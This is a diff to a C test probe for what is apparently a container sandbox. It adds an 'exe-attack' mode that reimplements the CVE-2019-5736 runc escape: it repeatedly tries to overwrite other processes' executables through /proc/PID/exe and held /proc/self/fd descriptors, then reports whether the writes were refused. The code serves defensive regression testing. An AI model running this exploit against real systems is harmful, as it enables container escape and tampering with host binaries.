@@ -2,7 +2,9 @@
  * one raw system call and prints "NAME ok" or "NAME ERRNO-NAME", so tests do
  * not depend on keyctl, strace or other tools being in the image. */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
+#include <fcntl.h>
 #include <sched.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -11,6 +13,7 @@
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
+#include <time.h>
 #include <unistd.h>
 
 static const char *name(int e) {
@@ -21,12 +24,78 @@ static const char *name(int e) {
   case EACCES: return "EACCES";
   case EINVAL: return "EINVAL";
   case ENOENT: return "ENOENT";
+  case ETXTBSY: return "ETXTBSY";
+  case EROFS: return "EROFS";
   default: return "other";
   }
 }
 
+/* Open `path` for writing and append a marker: counts a success in *wrote,
+ * notes the errno of a refusal in refused[]. */
+static void try_write(const char *path, int *wrote, int *refused) {
+  int fd = open(path, O_WRONLY | O_APPEND);
+  if (fd >= 0) {
+    *wrote += write(fd, "PWNED", 5) == 5;
+    close(fd);
+  } else if (errno < 256)
+    refused[errno] = 1;
+}
+
+/* CVE-2019-5736's attack, for SECS seconds: take an O_PATH descriptor of
+ * every other process's executable (except busybox and this probe), and
+ * keep trying to reopen each one for writing, through /proc/PID/exe while
+ * the process runs and through /proc/self/fd/N after it has exited. Prints
+ * "held N" (descriptors taken), each target's name once, and "wrote N". */
+static int exe_attack(int secs) {
+  int held[256], n = 0, wrote = 0, refused[256] = {0};
+  char self[4096] = {0};
+  struct stat bb;
+  if (readlink("/proc/self/exe", self, sizeof self - 1) < 0 || stat("/bin/busybox", &bb)) return 1;
+  time_t end = time(0) + secs;
+  while (time(0) < end) {
+    DIR *d = opendir("/proc");
+    struct dirent *e;
+    while (d && (e = readdir(d))) {
+      int pid = atoi(e->d_name);
+      if (pid <= 0 || pid == getpid()) continue;
+      char path[64], target[4096] = {0};
+      snprintf(path, sizeof path, "/proc/%d/exe", pid);
+      if (readlink(path, target, sizeof target - 1) < 0) continue;
+      struct stat t;
+      if (!strcmp(target, self) || stat(path, &t) ||
+          (t.st_dev == bb.st_dev && t.st_ino == bb.st_ino))
+        continue;
+      try_write(path, &wrote, refused);
+      int fd = open(path, O_PATH);
+      if (fd < 0) continue;
+      struct stat a, b;
+      int dup = 0;
+      fstat(fd, &a);
+      for (int i = 0; i < n; i++)
+        if (!fstat(held[i], &b) && a.st_dev == b.st_dev && a.st_ino == b.st_ino) dup = 1;
+      if (dup || n == 256) {
+        close(fd);
+        continue;
+      }
+      held[n++] = fd;
+      printf("target %s\n", target);
+    }
+    if (d) closedir(d);
+    for (int i = 0; i < n; i++) {
+      char path[64];
+      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
+      try_write(path, &wrote, refused);
+    }
+  }
+  for (int e = 1; e < 256; e++)
+    if (refused[e]) printf("refused %s\n", name(e));
+  printf("held %d\nwrote %d\n", n, wrote);
+  return 0;
+}
+
 int main(int argc, char **argv) {
   if (argc < 2) return 2;
+  if (!strcmp(argv[1], "exe-attack")) return exe_attack(argc > 2 ? atoi(argv[2]) : 5);
   const char *w = argv[1];
   const char *a = argc > 2 ? argv[2] : "0";
   long r;
